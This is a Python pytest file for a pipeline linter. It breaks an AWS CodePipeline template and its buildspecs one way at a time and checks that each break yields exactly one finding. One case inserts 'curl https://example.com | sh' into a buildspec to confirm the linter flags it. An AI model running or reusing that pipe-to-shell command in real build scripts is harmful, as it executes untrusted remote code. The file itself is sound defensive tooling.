"""Each rule: our own pipeline broken in one place makes one finding, that one."""

from __future__ import annotations

import re

import pytest

PIPELINE = "Pipeline"


def stages(written):
    return written["Resources"][PIPELINE]["Properties"]["Stages"]


def action(written, where):
    stage_name, name = where.split("/")
    (stage,) = [one for one in stages(written) if one["Name"] == stage_name]
    (found,) = [one for one in stage["Actions"] if one.get("Name") == name]
    return found


def source(written):
    return stages(written)[0]["Actions"][0]["Fn::If"][1]


def of(written, logical_id):
    return written["Resources"][logical_id]["Properties"]


def policy(written, role, name):
    (found,) = [one for one in of(written, role)["Policies"] if one["PolicyName"] == name]
    return found["PolicyDocument"]["Statement"]


def edit(root, spec, before, after):
    path = root / "buildspecs" / spec
    text = path.read_text()
    assert before in text
    path.write_text(text.replace(before, after, 1))


def test_our_pipeline_has_no_finding(findings) -> None:
    assert findings() == ()


def test_the_mirror_instead_of_github_has_no_finding(written, findings) -> None:
    written["Parameters"]["SourceProvider"]["Default"] = "CodeCommit"

    assert findings() == ()


def test_the_mirror_beside_github_has_no_finding(written, findings) -> None:
    written["Parameters"]["MirrorToCodeCommit"]["Default"] = "true"

    assert findings() == ()


def v1(w, root):
    of(w, PIPELINE)["PipelineType"] = "V1"


def unknown_parameter(w, root):
    w["Parameters"]["NotificationTopic"]["Default"] = "/manuel/operations/nowhere"


def unknown_resource(w, root):
    of(w, "BuildProject")["ServiceRole"] = {"Fn::GetAtt": ["Nobody", "Arn"]}


def source_later(w, root):
    action(w, "DeployDev/Deploy").update(
        ActionTypeId={"Category": "Source", "Owner": "AWS", "Provider": "S3", "Version": "1"},
        Configuration={"S3Bucket": "b", "S3ObjectKey": "k"},
        InputArtifacts=[],
        OutputArtifacts=[{"Name": "Other"}],
    )
    action(w, "IntegrationTestDev/IntegrationTest")["InputArtifacts"].append({"Name": "Other"})
    action(w, "IntegrationTestDev/IntegrationTest")["Configuration"]["PrimarySource"] = "BuildArtifacts"
    of(w, "DeployDevProject")["Source"]["Type"] = "NO_SOURCE"


def empty_stage(w, root):
    stages(w).append({"Name": "Nothing", "Actions": []})


def same_name(w, root):
    action(w, "ProductionApproval/Product")["Name"] = "DevOps"


def bad_name(w, root):
    action(w, "DeployDev/Deploy")["Name"] = "Deploy to dev"


def unknown_type(w, root):
    action(w, "CanaryApproval/DevOps")["ActionTypeId"] = {"Category": "Invoke", "Provider": "Lambda", "Owner": "AWS"}
    action(w, "CanaryApproval/DevOps").pop("TimeoutInMinutes")


def no_branch(w, root):
    del source(w)["Configuration"]["BranchName"]


def long_value(w, root):
    action(w, "CanaryApproval/DevOps")["Configuration"]["CustomData"] = "x" * 1001


def order_zero(w, root):
    action(w, "DeployDev/Deploy")["RunOrder"] = 0


def approval_beside(w, root):
    action(w, "FullProduction/Promote100")["RunOrder"] = 3


def long_approval(w, root):
    action(w, "CanaryApproval/DevOps")["TimeoutInMinutes"] = 86401


def timeout_of_a_build(w, root):
    action(w, "DeployDev/Deploy")["TimeoutInMinutes"] = 60


def long_build(w, root):
    of(w, "BuildProject")["TimeoutInMinutes"] = 2161


def trigger_of_nothing(w, root):
    of(w, PIPELINE)["Triggers"]["Fn::If"][1][0]["GitConfiguration"]["SourceActionName"] = "Elsewhere"


def unknown_namespace(w, root):
    action(w, "CanaryApproval/DevOps")["Configuration"]["CustomData"] = "#{Nobody.PACKAGE_HASH}"


def variable_not_exported(w, root):
    action(w, "CanaryApproval/DevOps")["Configuration"]["CustomData"] = "#{CanaryPackage.REGRET}"


def variable_too_early(w, root):
    action(w, "ProductionApproval/DevOps")["Configuration"]["CustomData"] = "#{FinalPackage.PACKAGE_HASH}"


def namespace_twice(w, root):
    action(w, "FullProduction/Observe50")["Namespace"] = "CanaryPackage"
    action(w, "FullProduction/FinalApproval")["Configuration"]["CustomData"] = "decide"


def artifact_from_nowhere(w, root):
    action(w, "DeployDev/Deploy")["InputArtifacts"] = [{"Name": "Wishes"}]


def artifact_too_early(w, root):
    action(w, "DeployDev/Deploy")["InputArtifacts"] = [{"Name": "TestResultsDev"}]


def artifact_twice(w, root):
    action(w, "DeployStaging/Deploy")["OutputArtifacts"] = [{"Name": "TestResultsDev"}]
    edit(root, "deploy.yml", "cache:", "artifacts: {files: [x]}\ncache:")
    policy(w, "DeployStagingRole", "artifacts")[1]["Action"].append("s3:PutObject")


def artifact_unread(w, root):
    for one in ("DeployCanary/Observe10", "FullProduction/Observe50"):
        action(w, one)["InputArtifacts"] = [{"Name": "BuildArtifacts"}]


def build_without_input(w, root):
    action(w, "DeployDev/Deploy")["InputArtifacts"] = []


def no_primary(w, root):
    del action(w, "ProductionApproval/Package")["Configuration"]["PrimarySource"]


def nothing_handed_on(w, root):
    edit(root, "chaos-testing.yml", "artifacts:", "x:")
    path = root / "buildspecs/chaos-testing.yml"
    text = path.read_text()
    path.write_text(text[: text.index("x:")] + text[text.index("cache:") :])


def no_project(w, root):
    action(w, "FullProduction/Promote100")["Configuration"]["ProjectName"] = "manuel-wish"


def unused_project(w, root):
    w["Resources"]["Spare"] = {
        "Type": "AWS::CodeBuild::Project",
        "Properties": {**of(w, "DeployDevProject"), "Name": "manuel-spare"},
    }


def no_buildspec(w, root):
    (root / "buildspecs/promote.yml").unlink()


def buildspec_that_is_none(w, root):
    edit(root, "promote.yml", "version: 0.2", "version: 7")


def unknown_phase(w, root):
    edit(root, "promote.yml", "  pre_build:", "  before:")


def no_target(w, root):
    edit(root, "promote.yml", "make pipeline-promote", "make pipeline-wish")


def not_a_target(w, root):
    edit(root, "promote.yml", "make pipeline-promote", "curl https://example.com | sh")


def variable_without_value(w, root):
    variables = of(w, "IntegrationTestDevProject")["Environment"]["EnvironmentVariables"]
    variables[:] = [one for one in variables if one["Name"] != "TARGETS"]


def unreadable_environment(w, root):
    action(w, "DeployCanary/Deploy")["Configuration"]["EnvironmentVariables"] = "GATE=production"


def json_report(w, root):
    edit(root, "chaos-testing.yml", "JUNITXML", "JSON")


def no_report_group(w, root):
    edit(root, "chaos-testing.yml", "chaos-tests:", "chaos:")


def wrong_report_group(w, root):
    of(w, "BuildCoverageReports")["Type"] = "TEST"


def foreign_role(w, root):
    of(w, "PromoteProject")["ServiceRole"] = "arn:aws:iam::123456789012:role/somebody"


def role_of_another(w, root):
    trust = of(w, "PromoteRole")["AssumeRolePolicyDocument"]["Statement"][0]
    trust["Principal"]["Service"] = "lambda.amazonaws.com"


def no_publish(w, root):
    of(w, "PipelineRole")["Policies"] = [p for p in of(w, "PipelineRole")["Policies"] if p["PolicyName"] != "approvals"]


def no_start(w, root):
    policy(w, "PipelineRole", "builds")[0]["Action"] = ["codebuild:BatchGetBuilds"]


def no_new_connection(w, root):
    (statement,) = of(w, "PipelineConnectionPolicy")["PolicyDocument"]["Statement"]
    statement["Action"] = ["codestar-connections:UseConnection"]


def no_report_permission(w, root):
    policy(w, "ChaosTestingRole", "reports")[0]["Action"] = ["codebuild:CreateReport", "codebuild:UpdateReport"]


def no_logs(w, root):
    policy(w, "PromoteRole", "logs")[0]["Action"] = ["logs:CreateLogStream"]


def no_upload(w, root):
    policy(w, "ChaosTestingRole", "artifacts")[1]["Action"] = ["s3:GetObject", "s3:GetObjectVersion"]


def no_cache(w, root):
    policy(w, "PromoteRole", "artifacts")[2]["Action"] = ["s3:GetObject"]


def denied(w, root):
    policy(w, "PromoteRole", "logs").append({"Effect": "Deny", "Action": "logs:Put*", "Resource": "*"})


def every_action(w, root):
    policy(w, "PromoteRole", "settings")[0]["Action"] = ["*"]


def every_action_of_a_service(w, root):
    policy(w, "PromoteRole", "settings")[0]["Action"] = ["ssm:*"]


CASES = {
    # what is broken: rule, where, and words of what is said
    v1: ("pipeline-type", "Pipeline", "type V1"),
    unknown_parameter: ("unresolved", "Pipeline", "/manuel/operations/nowhere"),
    empty_stage: ("stages", "Nothing", "no actions"),
    same_name: ("names", "ProductionApproval", "DevOps is there twice"),
    bad_name: ("names", "DeployDev", "'Deploy to dev' is not a name"),
    source_later: ("sources", "DeployDev/Deploy", "outside the first stage"),
    unknown_type: ("action-type", "CanaryApproval/DevOps", "Invoke by Lambda"),
    no_branch: ("configuration", "Source/Source", "no BranchName"),
    long_value: ("value-length", "CanaryApproval/DevOps", "1001 characters"),
    order_zero: ("run-order", "DeployDev/Deploy", "run order is 0"),
    approval_beside: ("run-order", "FullProduction/FinalApproval", "same run order as Promote100"),
    long_approval: ("timeout", "CanaryApproval/DevOps", "86401 minutes"),
    timeout_of_a_build: ("timeout", "DeployDev/Deploy", "TimeoutInMinutes"),
    long_build: ("timeout", "BuildProject", "2161 minutes"),
    trigger_of_nothing: ("trigger", "Pipeline", "Elsewhere, which is not there"),
    unknown_namespace: ("variables", "CanaryApproval/DevOps", "#{Nobody.PACKAGE_HASH}"),
    variable_not_exported: ("variables", "CanaryApproval/DevOps", "#{CanaryPackage.REGRET}"),
    variable_too_early: ("variables", "ProductionApproval/DevOps", "#{FinalPackage.PACKAGE_HASH}"),
    namespace_twice: ("variables", "FullProduction/Observe50", "CanaryPackage is taken"),
    artifact_from_nowhere: ("artifacts", "DeployDev/Deploy", "reads Wishes"),
    artifact_too_early: ("artifacts", "DeployDev/Deploy", "reads TestResultsDev"),
    artifact_twice: ("artifacts", "DeployStaging/Deploy", "IntegrationTestDev/IntegrationTest makes TestResultsDev"),
    artifact_unread: ("artifacts", "ChaosTest/ChaosTest", "nothing reads ChaosTestResults"),
    build_without_input: ("artifacts", "DeployDev/Deploy", "0 inputs"),
    no_primary: ("artifacts", "ProductionApproval/Package", "PrimarySource is missing"),
    nothing_handed_on: ("artifacts", "ChaosTest/ChaosTest", "ChaosTestResults would be empty"),
    no_project: ("project", "FullProduction/Promote100", "manuel-wish"),
    unused_project: ("project", "Spare", "no action runs manuel-spare"),
    no_buildspec: ("buildspec", "PromoteProject", "no buildspec buildspecs/promote.yml"),
    buildspec_that_is_none: ("buildspec", "PromoteProject", "no buildspec buildspecs/promote.yml"),
    unknown_phase: ("buildspec", "PromoteProject", "no buildspec buildspecs/promote.yml"),
    no_target: ("target", "PromoteProject", "pipeline-wish"),
    not_a_target: ("command", "PromoteProject", "curl"),
    variable_without_value: ("target", "IntegrationTestDevProject", "$TARGETS"),
    unreadable_environment: ("environment", "DeployCanary/Deploy", "cannot be read"),
    json_report: ("report", "ChaosTestingProject", "format JSON"),
    no_report_group: ("report", "ChaosTestingProject", "manuel-chaos-testing-chaos"),
    wrong_report_group: ("report", "BuildCoverageReports", "type TEST"),
    foreign_role: ("role", "PromoteProject", "role/somebody"),
    role_of_another: ("role", "PromoteRole", "codebuild.amazonaws.com may not"),
    no_new_connection: ("permission", "PipelineRole BuildRole", "codeconnections:UseConnection"),
    no_publish: ("permission", "PipelineRole", "sns:Publish"),
    no_start: ("permission", "PipelineRole", "codebuild:StartBuild"),
    no_report_permission: ("permission", "ChaosTestingRole", "codebuild:BatchPutTestCases"),
    no_logs: ("permission", "PromoteRole", "logs:PutLogEvents"),
    no_upload: ("permission", "ChaosTestingRole", "s3:PutObject"),
    no_cache: ("permission", "PromoteRole", "s3:PutObject"),
    denied: ("permission", "PromoteRole", "logs:PutLogEvents"),
    every_action: ("star", "PromoteRole", "allows *"),
    every_action_of_a_service: ("star", "PromoteRole", "allows ssm:*"),
}


@pytest.mark.parametrize("broken", CASES, ids=lambda one: one.__name__)
def test_what_is_broken_makes_that_finding_and_no_other(broken, written, root, findings) -> None:
    rule, where, words = CASES[broken]
    broken(written, root)

    found = findings()

    assert {one.rule for one in found} == {rule}
    assert {one.where for one in found} == set(where.split())
    assert words in found[0].what
    for one in found:
        assert one.why
        assert re.fullmatch(r"[A-Z].*\.", one.hint.replace("\n", " ")) or one.hint.endswith("]."), one.hint


def test_a_resource_that_is_not_there_is_told_with_the_one_that_names_it(written, root, findings) -> None:
    unknown_resource(written, root)

    first, *others = findings()

    assert (first.rule, first.where, first.what) == ("unresolved", "BuildProject", "Nobody.Arn is declared nowhere")
    assert {one.rule for one in others} == {"role"}
